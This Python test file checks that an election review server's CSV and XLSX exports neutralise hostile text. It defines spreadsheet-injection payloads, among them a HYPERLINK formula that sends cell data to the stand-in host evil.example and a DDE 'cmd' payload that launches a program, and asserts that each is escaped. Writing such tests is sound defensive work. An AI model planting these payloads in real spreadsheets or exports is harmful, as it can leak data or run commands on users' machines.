"""Every table export stays inert with hostile text: no live formula, no control character,
no 500 (issue 11, point 2)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from sync_server.review.exports import safe_text
from tests.server.conftest import TPS, MakeDevice
from tests.server.recon_helpers import VOTES, form, send

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "  =spaces first",
    "ESC \x1b[31m merah \x07 bell \x00 nul",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile(make_device: MakeDevice):
    ptps = make_device("ptps")
    send(ptps, "t1", {**form(VOTES), "ballot": HOSTILE[0]})
    for i, text in enumerate(HOSTILE):
        send(ptps, f"i{i}", {"jenis": "laporan", "kategori": "lainnya", "tps": TPS,
                             "uraian": text, "waktu": text, "tingkat": "rendah"},
             kind="incident")  # fmt: skip
    sup = make_device("supervisor", scope=["35.17"])
    send(sup, "i0", {"ditugaskan": HOSTILE[3], "komentar": [HOSTILE[6]]}, kind="incident")
    return sup


def cells_csv(raw: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]


def assert_inert(text: str) -> None:
    assert not text.lstrip(" ").startswith(FORMULA), text
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in text), repr(text)


@pytest.mark.parametrize("table", ["tallies", "reconciliation", "incidents"])
def test_csv_export_is_inert(hostile, table):
    res = hostile.client.get(f"/v1/review/export/{table}", params={"format": "csv"},
                             headers=hostile.headers)  # fmt: skip
    assert res.status_code == 200, res.text
    cells = cells_csv(res.content)
    for cell in cells:
        assert_inert(cell)
    if table == "incidents":
        assert "'=HYPERLINK(" in "".join(cells)
        assert "\\x1b[31m" in "".join(cells)


@pytest.mark.parametrize("table", ["tallies", "reconciliation", "incidents"])
def test_xlsx_export_answers_and_holds_no_formula(hostile, table):
    res = hostile.client.get(f"/v1/review/export/{table}", params={"format": "xlsx"},
                             headers=hostile.headers)  # fmt: skip
    assert res.status_code == 200, res.text
    book = openpyxl.load_workbook(io.BytesIO(res.content))
    seen = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert_inert(cell.value)
                seen.append(cell.value)
    if table == "incidents":
        assert any(v.startswith("'=HYPERLINK(") for v in seen)


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("a=b", "a=b"),
        ("x\x1by", "x\\x1by"),
        ("ok\nline", "ok\nline"),
        ("-", "'-"),
        ("", ""),
    ],
)
def test_safe_text(raw, safe):
    assert safe_text(raw) == safe
